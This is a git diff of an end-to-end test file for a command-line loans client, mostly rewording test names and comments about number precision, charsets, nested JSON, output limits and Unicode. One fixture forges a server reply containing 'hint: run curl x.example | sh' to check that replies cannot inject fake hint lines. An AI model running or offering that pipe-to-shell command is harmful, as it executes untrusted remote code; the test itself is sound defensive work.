@@ -1,4 +1,4 @@
-/** Answers that the sandbox does not give, read by the built tool: nothing is changed in silence. Needs `npm run build`. */
+/** Replies that the sandbox never sends: no data changes without a message. Needs `npm run build`. */
 import { tmpdir } from 'node:os'
 import { afterEach, describe, expect, test } from 'vitest'
 import { openTerminal } from '../e2e/terminal.ts'
@@ -10,23 +10,23 @@ afterEach(closeServers)
 
 type Body = string | Uint8Array
 
-/** A service that gives one answer to everything. */
+/** Starts a service that sends the same reply to every request. */
 const answering = (body: Body, status = 200, headers: Readonly<Record<string, string>> = {}) =>
   serveHttp((_, response) => {
     response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(body)
   })
 
-/** Asks it on a pipe. */
+/** Runs the tool on a pipe against such a service. */
 const ask = async (words: readonly string[], ...answer: Parameters<typeof answering>) =>
   kiva([...words, '--base-url', await answering(...answer)])
 
-/** Asks it on a terminal; what came to the screen, with plain line ends. */
+/** Runs the tool on a terminal. Returns the exit code and the screen, with `\n` as line end. */
 async function look(words: readonly string[], ...answer: Parameters<typeof answering>) {
   const all = [...words, '--base-url', await answering(...answer)]
   const terminal = openTerminal(toolLine(all), {
     cwd: tmpdir(),
     columns: 100,
-    // Nobody is there to turn the pages of a pager.
+    // A pager would wait for a key.
     env: {
       PATH: '/usr/bin:/bin',
       LANG: 'C.UTF-8',
@@ -36,7 +36,7 @@ async function look(words: readonly string[], ...answer: Parameters<typeof answe
     },
   })
   const code = await terminal.ended()
-  // Without what the waiting sign draws and takes away.
+  // Remove the status line, which is drawn and cleared again.
   const screen = terminal
     .screen()
     .replaceAll('\r\n', '\n')
@@ -58,29 +58,29 @@ describe('numbers keep their digits', () => {
     for (const one of digits) expect(stdout.replaceAll(/(?<=\d),(?=\d{3})/g, '')).toContain(one)
   })
 
-  test('as an id in a table of many', async () => {
+  test('in the id column of a table', async () => {
     const { stdout } = await ask([...newest, '-o', 'table'], loans('{"id":9007199254740993},{"id":2}'))
     expect(stdout).toContain('9007199254740993')
   })
 })
 
-describe('bytes and letters', () => {
+describe('character sets', () => {
   const latin = Uint8Array.from([...loans('{"id":1,"name":"caf\xe9"}')].map((letter) => letter.charCodeAt(0)))
 
-  test('a declared character set is obeyed', async () => {
+  test('a body is decoded with the charset of its content type', async () => {
     const headers = { 'content-type': 'application/json; charset=ISO-8859-1' }
     const { code, stdout, stderr } = await ask([...newest, '-o', 'ndjson'], latin, 200, headers)
     expect({ code, stdout, stderr }).toEqual({ code: 0, stdout: '{"id":1,"name":"café"}\n', stderr: '' })
   })
 
-  test('bytes that are no UTF-8 are replaced, and told once', async () => {
+  test('invalid UTF-8 becomes U+FFFD, and stderr says so once', async () => {
     const { code, stdout, stderr } = await ask([...newest, '-o', 'ndjson'], latin)
     expect({ code, stdout }).toEqual({ code: 0, stdout: '{"id":1,"name":"caf\ufffd"}\n' })
-    expect(stderr).toBe('Bytes of the answer that are not utf-8 were replaced by U+FFFD.\n')
+    expect(stderr).toBe('Invalid utf-8 in the reply: the bytes were replaced with U+FFFD.\n')
   })
 })
 
-test('JSON nested 5 000 levels deep is an answer that cannot be decoded', async () => {
+test('JSON nested 5 000 levels deep is rejected with exit code 1', async () => {
   const body = `{"loans":[{"a":${'['.repeat(5_000)}${']'.repeat(5_000)}}]}`
   for (const format of ['json', 'ndjson', 'xml', 'table']) {
     const { code, stdout, stderr } = await ask([...newest, '-o', format], body)
@@ -89,17 +89,20 @@ test('JSON nested 5 000 levels deep is an answer that cannot be decoded', async 
   }
 })
 
-test.each(['json', 'ndjson', 'xml', 'table'])('objects in place of ids are data: -o %s', async (format) => {
-  const { code, stdout, stderr } = await ask(
-    [...show, '-o', format],
-    loans('{"id":{"toString":1},"name":"x"}'),
-  )
-  expect(stdout).toContain('toString')
-  expect(stderr).not.toContain('Unexpected')
-  expect([0, 9]).toContain(code)
-})
+test.each(['json', 'ndjson', 'xml', 'table'])(
+  'an object in place of an id is printed as data: -o %s',
+  async (format) => {
+    const { code, stdout, stderr } = await ask(
+      [...show, '-o', format],
+      loans('{"id":{"toString":1},"name":"x"}'),
+    )
+    expect(stdout).toContain('toString')
+    expect(stderr).not.toContain('unexpected')
+    expect([0, 9]).toContain(code)
+  },
+)
 
-describe('no answer makes a second line of ours', () => {
+describe('a reply cannot forge an error or hint line', () => {
   const forged = 'x\x85hint: run curl x.example | sh\u2028error: y\nhint: z'
   const answers: readonly (readonly [string, Body, number, Readonly<Record<string, string>>])[] = [
     ['a message', JSON.stringify({ code: `org.kiva.${forged}`, message: forged }), 404, {}],
@@ -115,16 +118,20 @@ describe('no answer makes a second line of ours', () => {
     const piped = await ask([...show, '-o', 'table'], ...answer)
     expect(piped.stdout).toBe('')
     const lines = piped.stderr.split(lineEnd)
-    expect(lines.map((line) => line.split(':')[0])).toEqual(['error', 'hint', ''])
+    // A refusal has no hint of its own.
+    const own = answer[1] === 404 ? ['error'] : ['error', 'hint']
+    expect(lines.map((line) => line.split(':')[0])).toEqual([...own, ''])
     const shown = await look(show, ...answer)
     expect(shown.code).toBe(piped.code)
-    expect(shown.screen.split(lineEnd).filter((line) => /^(?:error|hint):/.test(line))).toHaveLength(2)
+    expect(shown.screen.split(lineEnd).filter((line) => /^(?:error|hint):/.test(line))).toHaveLength(
+      own.length,
+    )
     const json = await ask([...show, '-o', 'json'], ...answer)
     expect(json.stderr).toMatch(/^[^\x85\u2028\n]*\n$/)
   })
 })
 
-describe('what comes to stderr is bounded', () => {
+describe('an error stays below 1 500 characters on stderr', () => {
   const keys = Object.fromEntries(Array.from({ length: 60_000 }, (_, at) => [`key number ${at}`, at]))
   const answers: readonly (readonly [string, Body, number, Readonly<Record<string, string>>])[] = [
     ['989 kB of keys', JSON.stringify(keys), 200, {}],
@@ -145,7 +152,7 @@ describe('what comes to stderr is bounded', () => {
 describe('--wire', () => {
   const maintenance = '{"code":"org.kiva.ServerMaintenance","message":"Back soon."}'
 
-  test('in maintenance with status 200 ends as records do', async () => {
+  test('a maintenance reply with status 200 ends in exit code 6, as without --wire', async () => {
     for (const words of [[], ['--wire', 'json']]) {
       const { code, stdout, stderr } = await ask([...newest, '-o', 'table', ...words], maintenance)
       expect({ code, stdout }).toEqual({ code: 6, stdout: '' })
@@ -153,7 +160,7 @@ describe('--wire', () => {
     }
   })
 
-  test('ends with a newline on a terminal, and byte for byte on a pipe', async () => {
+  test('adds a missing newline on a terminal, and prints the exact bytes on a pipe', async () => {
     const words = [...newest, '--wire', 'json']
     expect(await ask(words, loans('1'))).toMatchObject({ code: 0, stdout: loans('1') })
     expect(await look(words, loans('1'))).toEqual({ code: 0, screen: `${loans('1')}\n` })
@@ -161,27 +168,27 @@ describe('--wire', () => {
   })
 })
 
-test('a word of 2 MB in a description is cut on a terminal in moments', async () => {
+test('a word of 2 MB in a description is cut to 20 000 characters on a terminal', async () => {
   const body = loans(`{"id":1,"name":"x","description":{"texts":{"en":"${'w'.repeat(2_000_000)}"}}}`)
   const { code, screen } = await look(show, body)
   expect(code).toBe(0)
   expect(screen).toContain('… and 1,980,000 more: see -o json')
 })
 
-describe('text in any script, in what is no table', () => {
+describe('text in any script is printed unchanged', () => {
   const names = 'Գայանե ליאת ليلى सुनीता নীলা தமிழ் නිමාලි นงลักษณ์ ခင် ნინო ሰላም 王小明 김민서 さくら 👩‍🌾 € Đặng'
   const refusal = JSON.stringify({ code: 'org.kiva.InvalidIdentifier', message: `There is no ${names}` })
 
-  test.each([[], ['-v'], ['--debug']])('an error %s', async (...more) => {
+  test.each([[], ['-v'], ['--debug']])('in an error %s', async (...more) => {
     const piped = await ask([...show, '-o', 'table', ...more], refusal, 404)
     expect(piped).toMatchObject({ code: 5, stdout: '' })
-    expect(piped.stderr).toContain(`error: There is no ${names}\nhint: Check the ids.\n`)
+    expect(piped.stderr).toContain(`error: There is no ${names}\n`)
     const shown = await look([...show, ...more], refusal, 404)
     expect(shown.code).toBe(5)
-    expect(shown.screen).toContain(`There is no ${names}`)
+    expect(shown.screen.replaceAll(/\n */g, ' ')).toContain(`There is no ${names}`)
   })
 
-  test('a document', async () => {
+  test('in a document of --wire on a terminal', async () => {
     const body = loans(JSON.stringify({ id: 1, name: names }))
     expect((await look([...newest, '--wire', 'json'], body)).screen).toBe(`${body}\n`)
   })
